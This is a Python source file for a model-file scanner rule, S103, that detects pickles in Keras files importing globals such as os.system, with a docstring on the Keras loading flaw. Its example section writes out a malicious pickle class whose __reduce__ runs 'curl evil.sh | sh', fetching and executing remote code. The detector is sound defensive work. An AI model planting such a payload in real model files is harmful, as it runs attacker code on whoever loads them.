"""S103 pickle-payload: a pickle in the file whose globals call more than numpy array rebuilding."""

from __future__ import annotations

from collections.abc import Iterator

from inspector.engine import RuleOptions, Violation, rule
from inspector.graph import ModelGraph, Payload
from inspector.rules import _examples as ex

_MLP = ex.dense_chain("mlp", [16])


@rule(
    "S103", "pickle-payload", "error", security_severity=9.8,
    invalid=[ex.carrying(_MLP, Payload("pickle", "zip member model.weights.npz (2 of 2)",
                                       "a pickle calling posix.system (os.system)"))],
    valid=[_MLP, ex.carrying(_MLP, Payload("import", "config.layers[1]", "config-driven import of os.system"))],
)
def pickle_payload(graph: ModelGraph, opts: RuleOptions) -> Iterator[Violation]:
    """
    ## What it does
    Reports pickles in a model file that import anything beyond numpy's array reconstruction.

    ## Details
    A `model.weights.npz` member may be a bare pickle, or hold an object array whose pickle names
    globals such as `os.system`. A config may carry a pickle as base64 text: Keras'
    `TorchModuleWrapper` keeps its module there as a `torch.save` archive (`config.module`); one
    that rebuilds only torch's own tensors and layers is what the wrapper is for, and is not
    reported. The pickle is disassembled with `pickletools`, never unpickled; the message names
    its globals and where it sits (several members of one name are each read).

    ## Why it matters
    Unpickling calls those globals: Keras releases that read `model.weights.npz` with
    `np.load(allow_pickle=True)` (before 3.9) run the payload as soon as the model is loaded, with
    any `safe_mode`. A public proof-of-concept `.keras` file does exactly this with
    `os.system("id")`. Object arrays that Keras itself writes (a dict of number arrays per layer)
    only rebuild numpy arrays and are not reported. Keras on the torch backend runs `torch.load`
    on a `TorchModuleWrapper`'s module when loading with `safe_mode=False`, and by default in
    releases before keras-team/keras#21575 (August 2025).

    ## Example
    ```python
    class Payload:
        def __reduce__(self):
            return (os.system, ("curl evil.sh | sh",))
    zf.writestr("model.weights.npz", pickle.dumps(Payload()))
    ```

    ## How to fix
    Do not load the file. Re-save a model you trust with `model.save("model.keras")` (weights go to
    `model.weights.h5`, which holds no pickle), and load files from others with an up-to-date Keras.
    """
    for p in graph.source.payloads:
        if p.kind == "pickle":
            yield Violation(f"{p.place}: {p.detail}")
